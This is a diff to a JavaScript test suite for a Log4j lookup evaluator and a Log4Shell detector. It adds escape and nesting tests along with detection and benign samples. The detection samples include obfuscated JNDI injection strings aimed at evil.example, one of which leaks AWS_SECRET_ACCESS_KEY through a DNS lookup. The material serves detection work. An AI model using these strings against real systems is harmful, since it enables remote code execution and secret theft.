@@ -9,9 +9,22 @@ describe('lookup evaluator', () => {
     expect(evaluateLookups('${${lower:J}${upper:n}${::-d}${env:NaN:-i}:x}').text).toBe('${jndi:x}');
     expect(evaluateLookups("${date:'j'}").text).toBe('j');
   });
+  it('reads $${…} as an escape that a later substitution pass resolves', () => {
+    expect(evaluateLookups('${::-$${::-j}}').text).toBe('j');
+    expect(evaluateLookups('$${jndi:ldap://x}').text).toBe('${jndi:ldap://x}');
+    expect(evaluateLookups('a $${b} c').text).toBe('a ${b} c');
+  });
+  it('counts empty-name defaults and lookup-built names', () => {
+    const ev = evaluateLookups('${${::-${::-$${::-j}}}}');
+    expect(ev.emptyDefaults).toBeGreaterThanOrEqual(2);
+    expect(ev.nestedNames).toBe(1);
+    expect(evaluateLookups('${PORT:-8080}').emptyDefaults).toBe(0);
+  });
   it('bounds deep nesting', () => {
     const deep = '${'.repeat(5000) + 'x' + '}'.repeat(5000);
     expect(() => evaluateLookups(deep)).not.toThrow();
+    const escapes = '${::-$${::-'.repeat(400) + 'j' + '}'.repeat(800);
+    expect(evaluateLookups(escapes).text.length).toBeLessThanOrEqual(2048);
   });
 });
 
@@ -30,6 +43,10 @@ describe('log4shellDetector', () => {
     'User ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}',
     '${env:AWS_SECRET_ACCESS_KEY}',
     '${sys:user.name}',
+    '${${::-${::-$${::-j}}}}',
+    '${::-j}${::-n}${::-d}${::-i}',
+    '$${jndi:ldap://evil.example/a}',
+    '${${::-j}ndi:${::-l}$${::-d}ap://evil.example/a}',
   ])('detects %s', (v) => expect(conf(v)).toBeGreaterThanOrEqual(0.5));
 
   it.each([
@@ -38,5 +55,9 @@ describe('log4shellDetector', () => {
     '`${a}:${b}`',
     'jndi is a Java API',
     '{"template":"${user.firstName}"}',
+    'PORT=${PORT:-8080} HOST=${HOST:-0.0.0.0}',
+    'cp ${SRC:-${HOME}/src} ${DEST:-/tmp}',
+    'label: ${${prefix}}',
+    'costs $$ and ${price}',
   ])('ignores %s', (v) => expect(conf(v)).toBeLessThan(0.5));
 });
